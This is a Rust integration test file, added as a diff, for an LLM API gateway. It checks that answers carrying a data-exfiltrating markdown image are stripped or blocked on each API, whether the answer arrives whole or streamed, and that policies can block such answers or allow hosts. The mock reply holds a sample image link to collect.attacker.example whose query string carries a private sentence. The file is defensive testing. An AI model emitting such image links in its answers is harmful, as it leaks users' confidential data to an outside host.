@@ -1,0 +1,149 @@
+//! Links and images in answers: with no configuration, an image that would
+//! carry data to another host is removed from the answer on every API, whole
+//! and streamed, while the rest of the text and an ordinary link pass; a
+//! policy can block such answers instead (`output_link_blocked`) or allow
+//! hosts outright.
+
+use halberd_store::KeySpec;
+use halberd_testkit::{TestGateway, sse_data};
+use serde_json::{Value, json};
+
+use crate::client;
+
+/// What the mock answers: an image whose query carries a sentence, between
+/// ordinary text and an ordinary link.
+const REPLY: &str = "Summary ready. ![chart](https://collect.attacker.example/c.png?d=merger%20closes%20on%20friday) \
+                     Details are in [the guide](https://docs.example.com/guide).";
+const CLEANED: &str = "Summary ready. [image removed] \
+                       Details are in [the guide](https://docs.example.com/guide).";
+
+const PATHS: [&str; 3] = ["/v1/chat/completions", "/v1/responses", "/v1/messages"];
+
+fn body(path: &str, stream: bool) -> Value {
+    match path {
+        "/v1/messages" => json!({"model": "mock-1", "max_tokens": 200, "stream": stream,
+            "messages": [{"role": "user", "content": "summarise the deal"}]}),
+        "/v1/responses" => {
+            json!({"model": "mock-1", "stream": stream, "input": "summarise the deal"})
+        }
+        _ => json!({"model": "mock-1", "stream": stream,
+            "messages": [{"role": "user", "content": "summarise the deal"}]}),
+    }
+}
+
+/// The answer's text as the client assembles it, or the error body.
+async fn ask(gw: &TestGateway, key: &str, path: &str, stream: bool) -> (u16, String) {
+    let resp = client()
+        .post(gw.url(path))
+        .bearer_auth(key)
+        .header("x-api-key", key)
+        .header("x-mock-reply", REPLY)
+        // Small deltas: the image is cut across many events.
+        .header("x-mock-chunk-bytes", "7")
+        .json(&body(path, stream))
+        .send()
+        .await
+        .unwrap();
+    let status = resp.status().as_u16();
+    if status != 200 {
+        return (status, resp.text().await.unwrap());
+    }
+    if !stream {
+        let v: Value = resp.json().await.unwrap();
+        let text = match path {
+            "/v1/messages" => v["content"][0]["text"].clone(),
+            "/v1/responses" => v["output"][0]["content"][0]["text"].clone(),
+            _ => v["choices"][0]["message"]["content"].clone(),
+        };
+        return (status, text.as_str().unwrap_or_default().to_owned());
+    }
+    let mut text = String::new();
+    for data in sse_data(resp).await {
+        let Ok(v) = serde_json::from_str::<Value>(&data) else {
+            continue;
+        };
+        if v["type"] == "error" || v.get("error").is_some() {
+            return (200, data);
+        }
+        let piece = match path {
+            "/v1/messages" => v.pointer("/delta/text"),
+            "/v1/responses" => (v["type"] == "response.output_text.delta").then(|| &v["delta"]),
+            _ => v.pointer("/choices/0/delta/content"),
+        };
+        text += piece.and_then(Value::as_str).unwrap_or_default();
+    }
+    (200, text)
+}
+
+#[tokio::test]
+async fn an_image_carrying_data_is_removed_whole_and_streamed_on_every_api() {
+    let gw = TestGateway::start("").await;
+    let key = gw.any_key().await;
+    for path in PATHS {
+        for stream in [false, true] {
+            let (status, text) = ask(&gw, &key, path, stream).await;
+            assert_eq!(status, 200, "{path} stream={stream}: {text}");
+            assert_eq!(text, CLEANED, "{path} stream={stream}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_policy_blocks_such_answers_or_allows_the_host() {
+    let gw = TestGateway::start(
+        r#"
+[[policies]]
+name = "block"
+[policies.links]
+images = "block"
+
+[[policies]]
+name = "allow"
+[policies.links]
+allow = ["*.attacker.example"]
+unlisted = "strip"
+"#,
+    )
+    .await;
+    let key = |policy: &str| {
+        gw.key(KeySpec {
+            name: policy.into(),
+            policy: Some(policy.into()),
+            ..KeySpec::default()
+        })
+    };
+    let block = key("block").await.key;
+    for path in PATHS {
+        let (status, raw) = ask(&gw, &block, path, false).await;
+        assert_eq!(status, 403, "{path}: {raw}");
+        let v: Value = serde_json::from_str(&raw).unwrap();
+        assert_eq!(v["error"]["code"], "output_link_blocked", "{path}: {raw}");
+        // The reason, never the URL or its data.
+        let message = v["error"]["message"].as_str().unwrap();
+        assert!(message.contains("image:sentence"), "{message}");
+        assert!(
+            !raw.contains("attacker") && !raw.contains("merger"),
+            "{raw}"
+        );
+
+        let (status, raw) = ask(&gw, &block, path, true).await;
+        assert_eq!(status, 200, "{path}");
+        assert!(raw.contains("output_link_blocked"), "{path}: {raw}");
+        assert!(!raw.contains("merger"), "{raw}");
+    }
+    // The image's host is allowed; the guide's is not, and every reference
+    // to a host not allowed is stripped: the link keeps its text.
+    let allow = key("allow").await.key;
+    for path in PATHS {
+        for stream in [false, true] {
+            let (status, text) = ask(&gw, &allow, path, stream).await;
+            assert_eq!(status, 200, "{path}");
+            assert_eq!(
+                text,
+                "Summary ready. ![chart](https://collect.attacker.example/c.png?d=merger%20closes%20on%20friday) \
+                 Details are in the guide.",
+                "{path} stream={stream}"
+            );
+        }
+    }
+}
